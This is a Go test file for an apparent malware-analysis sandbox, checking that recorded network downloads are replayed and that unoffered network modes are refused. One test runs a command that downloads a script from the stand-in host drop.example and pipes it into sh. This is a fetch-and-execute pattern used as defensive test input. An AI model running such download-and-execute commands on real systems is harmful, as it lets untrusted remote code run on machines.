package sandbox_test

import (
	"errors"
	"slices"
	"strings"
	"testing"

	"github.com/sallyport-dev/sallyport/sandbox"
	replayed "github.com/sallyport-dev/sallyport/sandbox/network/recording"
	"github.com/sallyport-dev/sallyport/sandbox/protocol"
)

func TestReplayServesTheRecordedStage(t *testing.T) {
	dir := t.TempDir()
	if err := replayed.Write(dir, map[string][]byte{"http://drop.example/stage.sh": []byte("#!/bin/sh\necho the recorded stage ran\n")}); err != nil {
		t.Fatal(err)
	}
	recorded, err := replayed.Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { recorded.Close() })
	r := newRunner(t, func(c *sandbox.Config) { c.Recording = recorded })
	req := request
	req.Profile.Network = protocol.Replay
	o, err := r.Run(t.Context(), buildSpec(t, shell("wget -q -O - http://drop.example/stage.sh | sh; wget -q -O /tmp/b http://drop.example/other.sh")), req, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer o.Close()
	run := o.Report.Run
	if run.NetworkMode != protocol.Replay || !slices.Equal(run.Coverage.UnmetDownloads, []string{"http://drop.example/other.sh"}) {
		t.Errorf("run %+v", run)
	}
	seen := o.Passes[0].Observation
	if !strings.Contains(seen.Run.Stdout, "the recorded stage ran") || len(seen.Network.HTTP) != 2 || seen.Network.HTTP[0].Source != "recording" {
		t.Errorf("printed %q, requests %+v", seen.Run.Stdout, seen.Network.HTTP)
	}
}

func TestNetworksThatAreNotOfferedAreRefused(t *testing.T) {
	r := newRunner(t, nil)
	for _, network := range []string{protocol.Replay, protocol.Gateway, "host"} {
		req := request
		req.Profile.Network = network
		o, err := r.Run(t.Context(), buildSpec(t, shell("true")), req, nil)
		if err == nil {
			err = errors.Join(errors.New("it ran"), o.Close())
		}
		if !strings.Contains(err.Error(), "only simulated") {
			t.Errorf("%s: %v", network, err)
		}
	}
}
